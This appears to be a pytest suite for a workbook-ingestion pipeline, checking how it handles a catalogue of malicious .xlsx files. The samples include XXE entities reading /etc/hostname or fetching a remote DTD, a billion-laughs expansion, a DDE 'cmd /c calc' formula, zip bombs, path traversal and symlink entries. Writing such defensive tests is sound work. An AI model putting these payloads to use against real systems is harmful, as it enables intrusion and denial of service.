from __future__ import annotations

import io
import json
import zipfile
import zlib
from collections.abc import Callable
from copy import copy
from datetime import UTC, datetime
from pathlib import Path
from typing import NamedTuple

import pandas as pd
import pytest

from pipelines.engine.landing import land, load_rejections, offered
from pipelines.readers import workbook_process
from pipelines.readers.layout_files import layout_for
from pipelines.readers.package import look
from pipelines.readers.refusal import Refused
from pipelines.readers.workbook_child import answer
from pipelines.rules.receipts import receipts
from pipelines.store.home import Home
from tests.unit.readers.workbooks import HEADER, RECORD, VALUES, package, row, sheet, text

MORNING = datetime(2026, 10, 20, 14, tzinfo=UTC)
GOOD = package(sheet(HEADER, RECORD))
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)
RELATIONS = '<Relationships><Relationship Id="rId1" Target="{}"{}/></Relationships>'
SYMLINK = 0o120777 << 16

SIBLING = (
    "company,settlement_id,settled_on,items,gross_amount,fee_amount,net_amount,currency,sender_bank,bank_tracking_key\n"
    "NORTE,L1,2026-10-14,1,100.00,10.00,90.00,MXN,40012,KEY1\n"
)


class Case(NamedTuple):
    """One workbook: what landing must make of it, and a piece of what it tells."""

    content: bytes
    outcome: str
    told: str = ""
    rejected: int = 0


def altered(content: bytes, change: Callable[[list[zipfile.ZipInfo]], object]) -> bytes:
    """The package with another directory: ``change`` gets its entries, the bytes of the parts stay."""
    packed = io.BytesIO(content)
    with zipfile.ZipFile(packed, "a") as archive:
        change(archive.filelist)
        archive._didModify = True  # type: ignore[attr-defined] # the directory is to be written again
    return packed.getvalue()


def sheet_of(entries: list[zipfile.ZipInfo]) -> zipfile.ZipInfo:
    return next(entry for entry in entries if entry.filename == "xl/worksheets/s1.xml")


def with_sizes(size: int) -> Callable[[list[zipfile.ZipInfo]], None]:
    def change(entries: list[zipfile.ZipInfo]) -> None:
        sheet_of(entries).file_size = size

    return change


def with_crc(entries: list[zipfile.ZipInfo]) -> None:
    sheet_of(entries).CRC ^= 1


def with_method(entries: list[zipfile.ZipInfo]) -> None:
    sheet_of(entries).compress_type = zipfile.ZIP_LZMA


def with_twin(entries: list[zipfile.ZipInfo]) -> None:
    entries.append(copy(sheet_of(entries)))


def with_overlaps(entries: list[zipfile.ZipInfo]) -> None:
    for number in range(500):
        entry = copy(sheet_of(entries))
        entry.filename = f"xl/worksheets/o{number}.xml"
        entries.append(entry)


def with_link(entries: list[zipfile.ZipInfo]) -> None:
    sheet_of(entries).external_attr = SYMLINK


def swollen(megabytes: int, parts: int, declared: int | None = None) -> bytes:
    """A package with ``parts`` parts of so many megabytes of blanks each: a block of deflate, over and over."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(b" " * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = block * megabytes + packer.flush()
    names = ["xl/worksheets/s1.xml", *(f"xl/media/m{number}" for number in range(1, parts))]

    def change(entries: list[zipfile.ZipInfo]) -> None:
        for entry in entries:
            if entry.filename in names:
                entry.compress_type = zipfile.ZIP_DEFLATED
                entry.file_size = declared or megabytes << 20

    return altered(package(sheet(), parts=dict.fromkeys(names, packed)), change)


def cut(content: bytes, start: int, filling: bytes = b"") -> bytes:
    return content[:start] + (filling + content[start + len(filling) :] if filling else b"")


def in_middle(content: bytes) -> int:
    """Where the packed bytes of the first sheet are."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.getinfo("xl/worksheets/s1.xml").header_offset + 60


def changed(column: int, cell: str) -> str:
    return row(*(cell if place == column else text(value) for place, value in enumerate(VALUES)))


def linked(target: str, more: str = "") -> bytes:
    return package(sheet(HEADER, RECORD), parts={"xl/_rels/workbook.xml.rels": RELATIONS.format(target, more)})


def in_utf16(content: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-16"?>{content}'.encode("utf-16")


def lettered(number: int) -> str:
    return row(text("x"), number=number)


DTD = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">]>'
PARAMETERS = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://198.51.100.1/x.dtd">%p;]>'
LONG = "x" * 32_000
FORMULA = "<c><f>A1</f></c>"
CACHED = '<c t="str"><f>A1</f><v>cached</v></c>'
DDE = '<c t="str"><f>cmd|"/c calc"!A0</f><v>x</v></c>'

CASES = {
    # What only looks wrong is read.
    "plain": Case(GOOD, "accepted"),
    "small_dimension": Case(
        package(sheet(HEADER, RECORD).replace("<sheetD", '<dimension ref="A1"/><sheetD')), "accepted"
    ),
    "large_dimension": Case(
        package(sheet(HEADER, RECORD).replace("<sheetD", '<dimension ref="A1:XFD1048576"/><sheetD')), "accepted"
    ),
    "utf_16": Case(package(sheet(), parts={"xl/worksheets/s1.xml": in_utf16(sheet(HEADER, RECORD))}), "accepted"),
    "sst_count_lie": Case(
        package(
            sheet(HEADER, changed(3, '<c t="s"><v>0</v></c>')),
            parts={"xl/sharedStrings.xml": '<sst count="4294967295" uniqueCount="1"><si><t>Asked</t></si></sst>'},
        ),
        "accepted",
    ),
    "external_link": Case(
        package(sheet(HEADER, RECORD), parts={"xl/externalLinks/externalLink1.xml": DTD, "xl/connections.xml": DTD}),
        "accepted",
    ),
    "ole_part": Case(package(sheet(HEADER, RECORD), parts={"xl/embeddings/oleObject1.bin": OLE}), "accepted"),
    "hidden_row": Case(package(sheet(HEADER, RECORD.replace("<row", '<row hidden="1"'))), "accepted"),
    # A cell that is wrong takes its row along and no other.
    "formula_uncached": Case(package(sheet(HEADER, changed(3, FORMULA), RECORD)), "accepted", "formula", 1),
    "formula_cached": Case(package(sheet(HEADER, changed(3, CACHED), RECORD)), "accepted", "formula", 1),
    "dde": Case(package(sheet(HEADER, changed(3, DDE), RECORD)), "accepted", "formula", 1),
    "error_cell": Case(package(sheet(HEADER, changed(3, '<c t="e"><v>#REF!</v></c>'), RECORD)), "accepted", "error", 1),
    "clabe_number": Case(
        package(sheet(HEADER, changed(4, "<c><v>12180004643051249</v></c>"), RECORD)), "accepted", "unrecoverable", 1
    ),
    "clabe_exponent": Case(
        package(sheet(HEADER, changed(4, "<c><v>1.2180004643051E+16</v></c>"), RECORD)), "accepted", "unrecoverable", 1
    ),
    # What a person has to look at waits.
    "hidden_sheet": Case(
        package(sheet(HEADER, RECORD), sheet(RECORD), states=("visible", "hidden")), "held", "sheet S1: found a hidden"
    ),
    "very_hidden_sheet": Case(
        package(sheet(HEADER, RECORD), sheet(RECORD), states=("visible", "veryHidden")), "held", "found a hidden sheet"
    ),
    "row_65536": Case(
        package(sheet(HEADER, RECORD.replace("<row", '<row r="65536"'))), "held", "found exactly 65,536 rows"
    ),
    "row_1048576": Case(
        package(sheet(HEADER, RECORD.replace("<row", '<row r="1048576"'))), "held", "found exactly 1,048,576 rows"
    ),
    # Everything else is refused.
    "password": Case(
        OLE + "EncryptedPackage".encode("utf-16-le") + bytes(999), "refused", "found a password-protected workbook"
    ),
    "xls": Case(OLE, "refused", "found a password-protected or .xls workbook"),
    "html": Case(b"<html><table></table></html>", "refused", "no zip package"),
    "csv": Case(b"payment_id,action\n", "refused", "no zip package"),
    "macros": Case(package(sheet(HEADER), parts={"xl/vbaProject.bin": OLE}), "refused", "found macros"),
    "xl4_macros": Case(package(sheet(HEADER), parts={"xl/macrosheets/sheet1.xml": "<x/>"}), "refused", "found macros"),
    "merged": Case(
        package(sheet(HEADER, RECORD, after='<mergeCells><mergeCell ref="A2:B3"/></mergeCells>')),
        "refused",
        "line 3: found merged cells",
    ),
    "second_sheet": Case(package(sheet(HEADER, RECORD), sheet(RECORD)), "refused", "sheet S1: found another sheet"),
    "inflation_told": Case(swollen(1400, 1), "refused", "found 1,468,0"),
    "inflation_untold": Case(swollen(1400, 1, 9_000), "refused", "damaged"),
    "inflation_below": Case(swollen(250, 1), "refused", "parts packed more than 100-fold"),
    "inflation_in_parts": Case(swollen(5, 40), "refused", "parts packed more than 100-fold"),
    "many_parts": Case(
        package(sheet(HEADER), parts={f"x{number}": "" for number in range(2001)}), "refused", "different parts"
    ),
    "nested": Case(package(sheet(HEADER), parts={"xl/media/a.zip": GOOD}), "refused", "an archive within"),
    "overlapping": Case(altered(GOOD, with_overlaps), "refused", "damaged zip package"),
    "twin_names": Case(altered(GOOD, with_twin), "refused", "two of one name"),
    "twin_cases": Case(package(sheet(HEADER), parts={"XL/workbook.xml": "<x/>"}), "refused", "two of one name"),
    "size_above": Case(altered(GOOD, with_sizes(100_000)), "refused", "damaged"),
    "size_below": Case(altered(GOOD, with_sizes(100)), "refused", "damaged"),
    "crc": Case(altered(GOOD, with_crc), "refused", "damaged"),
    "lzma": Case(altered(GOOD, with_method), "refused", "packed in an unusual way"),
    "truncated": Case(cut(GOOD, len(GOOD) // 2), "refused", "damaged zip package"),
    "garbage": Case(cut(GOOD, in_middle(GOOD), b"\xff" * 40), "refused", "damaged"),
    "traversal": Case(package(sheet(HEADER, RECORD), parts={"../../evil.xml": "x"}), "refused", "points out of"),
    "absolute": Case(package(sheet(HEADER, RECORD), parts={"/evil.xml": "x"}), "refused", "points out of"),
    "symlink": Case(altered(GOOD, with_link), "refused", "points out of"),
    "sheet_above": Case(linked("../../x"), "refused", "a sheet outside the workbook"),
    "sheet_on_web": Case(linked("http://198.51.100.1/s.xml"), "refused", "a sheet outside the workbook"),
    "sheet_external": Case(
        linked("worksheets/s1.xml", ' TargetMode="External"'), "refused", "a sheet outside the workbook"
    ),
    "sheet_missing": Case(linked("worksheets/s9.xml"), "refused", "damaged"),
    "corner": Case(
        package(sheet(HEADER, row(text("x", "XFD1048576"), number=1_048_576))), "refused", "a value in column 16384"
    ),
    "beyond_corner": Case(package(sheet(HEADER, row(text("x", "XFE2"), number=2))), "refused", "not where it says"),
    "row_beyond": Case(package(sheet(HEADER, lettered(1_048_577))), "refused", "a row number that no sheet has"),
    "row_absurd": Case(package(sheet(HEADER, lettered(10**30))), "refused", "damaged"),
    "rows_backwards": Case(package(sheet(HEADER, lettered(5), lettered(4))), "refused", "rows out of order"),
    "cells_backwards": Case(
        package(sheet(HEADER, row(text("x", "B2"), text("x", "A2"), number=2))), "refused", "not where it says"
    ),
    "rowless_cell": Case(package(sheet(HEADER, text("x"))), "refused", "not where it says"),
    "string_unknown": Case(package(sheet(HEADER, row('<c t="s"><v>7</v></c>'))), "refused", "damaged"),
    "string_negative": Case(
        package(
            sheet(HEADER, row('<c t="s"><v>-1</v></c>')), parts={"xl/sharedStrings.xml": "<sst><si><t>x</t></si></sst>"}
        ),
        "refused",
        "damaged",
    ),
    "string_bomb": Case(
        package(
            sheet(HEADER, *[row('<c t="s"><v>0</v></c>')] * 4_000),
            parts={"xl/sharedStrings.xml": f"<sst><si><t>{LONG}</t></si></sst>"},
        ),
        "refused",
        "more text than a workbook of ordinary size",
    ),
    "huge_text": Case(package(sheet(HEADER, row(text("x" * 40_000)))), "refused", "a text longer than a cell"),
    "huge_string": Case(
        package(sheet(HEADER), parts={"xl/sharedStrings.xml": f"<sst><si><t>{LONG * 2}</t></si></sst>"}),
        "refused",
        "a text longer than a cell",
    ),
    "huge_attribute": Case(package(sheet(HEADER, f'<row x="{LONG * 200}"/>')), "refused", "an attribute without end"),
    "huge_format": Case(
        package(
            sheet(HEADER, RECORD),
            parts={
                "xl/styles.xml": f'<s><numFmt numFmtId="200" formatCode="{"[" * 100_000}"/>'
                '<cellXfs><xf numFmtId="200"/></cellXfs></s>'
            },
        ),
        "refused",
        "damaged",
    ),
    "deep": Case(package(sheet(HEADER, "<x>" * 200_000 + "</x>" * 200_000)), "refused", "XML nested deeper than 64"),
    "idle": Case(package(sheet(HEADER, "<x/>" * 600_000)), "refused", "more empty markup than content"),
    "entities": Case(package(sheet(HEADER, RECORD, before=LAUGHS)), "refused", "document type declaration"),
    "external_entity": Case(package(sheet(HEADER, RECORD, before=DTD)), "refused", "document type declaration"),
    "parameter_entity": Case(
        package(sheet(HEADER), parts={"xl/workbook.xml": PARAMETERS + "<x/>"}), "refused", "document type declaration"
    ),
    "entity_in_strings": Case(
        package(sheet(HEADER), parts={"xl/sharedStrings.xml": LAUGHS + "<sst/>"}),
        "refused",
        "document type declaration",
    ),
    "no_xml": Case(package(sheet(HEADER), parts={"xl/worksheets/s1.xml": "\0" * 500}), "refused", "damaged"),
}


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Home:
    """A home in which all of them were landed at once, between two sound files of another sender."""
    made = Home(tmp_path_factory.mktemp("home"))
    made.prepare()
    for name, case in CASES.items():
        (made.inbox / f"decisions_{name}.xlsx").write_bytes(case.content)
    (made.inbox / "settlements_a.csv").write_text(SIBLING)
    (made.inbox / "settlements_z.csv").write_text(SIBLING.replace("L1", "L2").replace("KEY1", "KEY2"))
    land(made, made.inbox, MORNING)
    return made


@pytest.fixture(scope="module")
def landed(home: Home) -> pd.DataFrame:
    """The log of landings, by name of file."""
    return offered(home, None).set_index("file_name")


@pytest.mark.parametrize("name", CASES)
def test_a_workbook_of_ill_will_is_refused_held_or_read_as_the_catalogue_says(name: str, landed: pd.DataFrame) -> None:
    case, entry = CASES[name], landed.loc[f"decisions_{name}.xlsx"]
    outcome = "refused" if entry["refusal"] else "held" if entry["hold"] else "accepted"
    assert outcome == case.outcome
    assert entry["rejected_rows"] == case.rejected
    assert entry["rows"] == (0 if outcome == "refused" else 1 + case.rejected)
    if outcome != "accepted":
        assert case.told in entry["refusal"] + entry["hold"]


def seen_from_outside(content: bytes) -> int | Refused:
    try:
        return look(content)
    except Refused as refused:
        return refused


@pytest.mark.parametrize("name", CASES)
def test_what_the_child_finds_is_what_the_receipt_tells(name: str, landed: pd.DataFrame) -> None:
    # In this process, so that a debugger and the measure of coverage see it too.
    layout, refusal = layout_for("decisions_x.xlsx"), str(landed.loc[f"decisions_{name}.xlsx", "refusal"])
    assert layout is not None
    unpacked = seen_from_outside(CASES[name].content)
    if isinstance(unpacked, Refused):
        assert unpacked.message(f"decisions_{name}.xlsx") == refusal
        return
    out = io.BytesIO()
    last = answer(CASES[name].content, workbook_process._asked(layout, unpacked), out)
    if "refusal" in last:
        assert last["refusal"]["found"] in refusal
    else:
        # Only the header and what is merged are the parent's to judge.
        assert not refusal or "merged" in refusal
        assert json.loads(out.getvalue().partition(b"\n")[0])["rows"] == 2 + CASES[name].rejected


def test_the_receipt_of_a_workbook_that_waits_says_held_and_why(landed: pd.DataFrame) -> None:
    receipt = receipts(landed.loc[["decisions_hidden_sheet.xlsx"]].reset_index()).loc[0]
    assert receipt["outcome"] == "held"
    assert "found a hidden sheet with values" in receipt["reason"]


def test_the_other_files_of_the_inbox_flow(landed: pd.DataFrame) -> None:
    issued = receipts(landed.reset_index()).set_index("file_name")
    assert issued.loc[["settlements_a.csv", "settlements_z.csv"], "outcome"].tolist() == ["accepted"] * 2
    assert issued.loc[["settlements_a.csv", "settlements_z.csv"], "rows"].tolist() == [1, 1]


def test_every_workbook_stays_in_the_inbox_as_it_was_and_none_is_unpacked_beside_it(home: Home) -> None:
    names = {path.name for path in home.inbox.iterdir()}
    assert names == {*(f"decisions_{name}.xlsx" for name in CASES), "settlements_a.csv", "settlements_z.csv"}
    assert all((home.inbox / f"decisions_{name}.xlsx").read_bytes() == case.content for name, case in CASES.items())
    assert not list(home.root.rglob("*evil*"))


@pytest.mark.parametrize("name", [name for name, case in CASES.items() if case.rejected])
def test_a_rejected_row_is_told_with_its_sheet_and_row_and_what_is_wrong(
    name: str, home: Home, landed: pd.DataFrame
) -> None:
    alone = landed.loc[[f"decisions_{name}.xlsx"]].reset_index()
    rejections = load_rejections(home, receipts(alone))
    assert rejections[["sheet", "row"]].to_numpy().tolist() == [["S0", 2]]
    assert CASES[name].told in str(rejections.loc[0, "reason"])


KILLED = "import os, signal; open({marks!r}, 'a').write('x'); os.kill(os.getpid(), signal.SIGKILL)"
KILLED_ONCE = "import os\nif not os.path.exists({marks!r}):\n    " + KILLED + "\n"


def offer(root: Path) -> Home:
    home = Home(root / "home")
    home.prepare()
    (home.inbox / "decisions_x.xlsx").write_bytes(GOOD)
    (home.inbox / "settlements_x.csv").write_text(SIBLING)
    return home


def test_a_workbook_that_kills_its_child_is_tried_twice_and_parked_and_the_others_flow(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    marks = tmp_path / "marks"
    monkeypatch.setattr(workbook_process, "_PROGRAM", KILLED.format(marks=str(marks)))
    home = offer(tmp_path)
    land(home, home.inbox, MORNING)
    landings = offered(home, None).set_index("file_name")
    assert "it was tried twice and is parked" in str(landings.loc["decisions_x.xlsx", "refusal"])
    assert landings.loc["settlements_x.csv", "rows"] == 1
    assert marks.read_text() == "xx"


def test_a_child_that_was_killed_once_by_chance_costs_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    program = KILLED_ONCE.format(marks=str(tmp_path / "marks")) + workbook_process._PROGRAM
    monkeypatch.setattr(workbook_process, "_PROGRAM", program)
    home = offer(tmp_path)
    land(home, home.inbox, MORNING)
    assert offered(home, None).set_index("file_name").loc["decisions_x.xlsx", "rows"] == 1


@pytest.mark.parametrize(
    "said",
    [
        "",
        "no JSON",
        '{"rows": 1, "sheet": 0, "bytes": [9]}',
        '{"sheets": [{"sheet": 0}], "hidden": []}',
        '{"refusal": {}}',
        '{"rows": 1, "sheet": 0, "bytes": [1]}\n' + "\\x01\\x00\\x00\\x00t\\x01\\x00\\x00\\x00\\xff",
        '{"rows": 1, "sheet": 0, "bytes": [1]}\n' + "\\x01\\x00\\x00\\x00t\\xff\\x00\\x00\\x00a",
    ],
)
def test_a_child_that_says_what_no_child_says_is_not_believed(
    said: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    head, _, rest = said.partition("\n")
    program = f"import sys; sys.stdout.buffer.write({head!r}.encode() + b'\\n' + b'{rest}')"
    monkeypatch.setattr(workbook_process, "_PROGRAM", program)
    home = offer(tmp_path)
    land(home, home.inbox, MORNING)
    refusals = offered(home, None).set_index("file_name")["refusal"]
    assert "it was tried twice" in refusals["decisions_x.xlsx"]
